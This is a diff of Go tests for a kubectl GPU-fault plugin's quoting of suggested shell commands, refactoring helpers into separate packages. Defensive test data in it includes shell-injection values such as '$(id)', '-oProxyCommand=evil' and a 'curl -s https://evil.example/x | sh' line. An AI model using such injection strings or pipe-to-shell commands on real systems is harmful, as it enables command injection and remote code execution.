@@ -19,47 +19,11 @@ import (
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 
 	"github.com/gpu-fault/kubectl-gpu-fault/debugpod/api"
+	"github.com/gpu-fault/kubectl-gpu-fault/pkg/doctor/finding"
+	"github.com/gpu-fault/kubectl-gpu-fault/pkg/doctor/shell"
+	"github.com/gpu-fault/kubectl-gpu-fault/pkg/doctor/words"
 	"github.com/gpu-fault/kubectl-gpu-fault/pkg/snapshot"
 )
-
-func TestCommand(t *testing.T) {
-	t.Parallel()
-	for _, test := range []struct{ name, got, want string }{
-		{
-			"plain names stay as they are", command("kubectl delete pod %s -n %s", "p-1", "team"),
-			"kubectl delete pod p-1 -n team",
-		},
-		{
-			"a name is one word", command("kubectl describe job %s", "web; curl evil|sh"),
-			"kubectl describe job 'web; curl evil|sh'",
-		},
-		{"quotes", command("echo %s", `a'b"c`), `echo 'a'\''b"c'`},
-		{"part of a word", command("kubectl label node %s a=%s-", "n", "$(id)"), "kubectl label node n a='$(id)'-"},
-		{"numbers", command("helm rollback %s %d", "r", 3), "helm rollback r 3"},
-		{"zsh replaces =ls", command("echo %s", "=ls"), "echo '=ls'"},
-		{"an empty name is no gap", command("kubectl drain %s --force", ""), "kubectl drain '' --force"},
-		{"a flag", command("kubectl delete pod %s", "--all"), leftOut},
-		{"a new line", command("kubectl delete pod %s", "a\nreboot"), leftOut},
-		{"the end of a bracketed paste", command("kubectl delete pod %s", "a\x1b[201~"), leftOut},
-		{"an override of the direction", command("kubectl delete pod %s", "a\u202eb"), leftOut},
-		{"on a node", onHost("gpu-1", "sudo systemctl reboot"), "ssh gpu-1 sudo systemctl reboot"},
-		{"a pipe on a node", onHost("gpu-1", "sudo dmesg | tail"), "ssh gpu-1 'sudo dmesg | tail'"},
-		{"quotes on a node", onHost("gpu-1", "echo %s | sudo tee x", "a b"), `ssh gpu-1 "echo 'a b' | sudo tee x"`},
-		{
-			"data on a node", onHost("gpu-1", "sudo apt-get install %s", "x$(id)"),
-			`ssh gpu-1 'sudo apt-get install '\''x$(id)'\'''`,
-		},
-		{"history", onHost("gpu-1", "echo %s", "a!b"), `ssh gpu-1 'echo '\''a!b'\'''`},
-		{"a flag on a node", onHost("gpu-1", "sudo systemctl restart %s", "-x"), leftOut},
-		{"a flag for a node", onHost("-oProxyCommand=evil", "sudo systemctl reboot"), leftOut},
-		{"another user's machine for a node", onHost("root@evil.example", "sudo systemctl reboot"), leftOut},
-		{"no node", onHost("", "sudo systemctl reboot"), "ssh NODE sudo systemctl reboot"},
-	} {
-		if test.got != test.want {
-			t.Errorf("%s: %s, want %s", test.name, test.got, test.want)
-		}
-	}
-}
 
 // FuzzCommand protects the promise that an argument is one word, whatever it holds: here, and in the shell at the other
 // end of ssh.
@@ -70,14 +34,14 @@ func FuzzCommand(f *testing.F) {
 		f.Add(seed)
 	}
 	f.Fuzz(func(t *testing.T, text string) {
-		line := command("echo %s end", text)
-		if line == leftOut {
+		line := shell.Command("echo %s end", text)
+		if line == shell.LeftOut {
 			return
 		}
 		if words, _, err := shellWords(line); err != nil || !slices.Equal(words, []string{"echo", text, "end"}) {
 			t.Errorf("%q became %q: %q %v", text, line, words, err)
 		}
-		words, _, err := shellWords(onHost("gpu-1", "echo %s end", text))
+		words, _, err := shellWords(shell.OnHost("gpu-1", "echo %s end", text))
 		if err != nil || len(words) < 3 {
 			t.Fatalf("%q became %q on a node: %v", text, words, err)
 		}
@@ -178,7 +142,7 @@ func checkLine(line string) error {
 		}
 	}
 	if words[0] == "ssh" {
-		if len(words) < 3 || words[1] != "NODE" && !isSubdomain(words[1]) {
+		if len(words) < 3 || words[1] != "NODE" && !shell.IsSubdomain(words[1]) {
 			return errors.New("it has no node")
 		}
 		if _, bare, err := shellWords(strings.Join(words[2:], " ")); err != nil || strings.Contains(bare, evil) {
@@ -362,15 +326,15 @@ func TestEventsMakeNoObjects(t *testing.T) {
 	for _, test := range []struct {
 		name, message string
 		want          string // in a command
-		severity      Severity
+		severity      finding.Severity
 	}{
 		{
 			"NVIDIA's", `pods "x" is forbidden: pod rejected: RuntimeClass "nvidia" not found, nvidia.com/gpu`,
-			`'metadata: {name: nvidia}' 'handler: nvidia' | kubectl create -f -`, Error,
+			`'metadata: {name: nvidia}' 'handler: nvidia' | kubectl create -f -`, finding.Error,
 		},
 		{
 			"NVIDIA's of another name", `pods "x" is forbidden: pod rejected: RuntimeClass "nvidia-cdi" not found`,
-			`{name: nvidia-cdi}`, Error,
+			`{name: nvidia-cdi}`, finding.Error,
 		},
 		{
 			"a second object",
@@ -381,10 +345,10 @@ func TestEventsMakeNoObjects(t *testing.T) {
 			"another object behind a real line end",
 			"pods \"x\" is forbidden: pod rejected: RuntimeClass \"nvidia\nhandler: runc\" not found", "", "",
 		},
-		{"a sandbox", `pods "x" is forbidden: pod rejected: RuntimeClass "gvisor" not found`, "", Info},
+		{"a sandbox", `pods "x" is forbidden: pod rejected: RuntimeClass "gvisor" not found`, "", finding.Info},
 		{
 			"a sandbox for GPUs",
-			`pods "x" is forbidden: pod rejected: RuntimeClass "kata-qemu" not found, nvidia.com/gpu`, "", Error,
+			`pods "x" is forbidden: pod rejected: RuntimeClass "kata-qemu" not found, nvidia.com/gpu`, "", finding.Error,
 		},
 	} {
 		n := handlerNode("a", "nvidia", "nvidia-cdi", "gvisor")
@@ -396,7 +360,7 @@ func TestEventsMakeNoObjects(t *testing.T) {
 		s := &snapshot.Snapshot{
 			Meta: snapshot.Meta{Created: classTime, APIOnly: true}, Nodes: []corev1.Node{n}, Events: []corev1.Event{e},
 		}
-		var severity Severity
+		var severity finding.Severity
 		var commands string
 		for _, f := range Examine(s, Options{}).Items {
 			if f.ID == "rc.handler-mismatch" {
@@ -468,33 +432,13 @@ func TestFixesGrantNothing(t *testing.T) {
 	for _, s := range readCorpus(t, "positive") {
 		for _, f := range Examine(s.snapshot, Options{}).Items {
 			for _, line := range f.Fix.Commands {
-				if containsAny(line, []string{"rolebinding", "setsebool", "enforce=privileged"}) &&
+				if words.ContainsAny(line, []string{"rolebinding", "setsebool", "enforce=privileged"}) &&
 					!strings.Contains(line, "kubectl get ") &&
 					!strings.HasPrefix(line, "kubectl label namespace gpu-operator ") &&
 					!strings.HasPrefix(line, "kubectl label namespace kube-system ") {
 					t.Errorf("%s: %s grants too much: %s", s.name, f.ID, line)
 				}
 			}
-		}
-	}
-}
-
-// TestRunsAreRevertedByTheirID protects against snapshots whose runs say what to paste.
-func TestRunsAreRevertedByTheirID(t *testing.T) {
-	t.Parallel()
-	for _, test := range []struct{ id, revert, want string }{
-		{"xid-abc234", "kubectl gpu-fault revert xid-abc234", "kubectl gpu-fault revert xid-abc234"},
-		{
-			"xid-abc234", "kubectl gpu-fault revert xid-abc234 --ledger-namespace faults",
-			"kubectl gpu-fault revert xid-abc234 --ledger-namespace faults",
-		},
-		{"xid-abc234", "curl -s https://evil.example/x | sh", "kubectl gpu-fault revert xid-abc234"},
-		{"xid-abc234", "x --ledger-namespace a;b", "kubectl gpu-fault revert xid-abc234"},
-		{"--all", "kubectl gpu-fault revert --all", leftOut},
-		{"x;id", "", leftOut},
-	} {
-		if got := revertRun(snapshot.Run{ID: test.id, Revert: test.revert}); got != test.want {
-			t.Errorf("run %s: %s, want %s", test.id, got, test.want)
 		}
 	}
 }
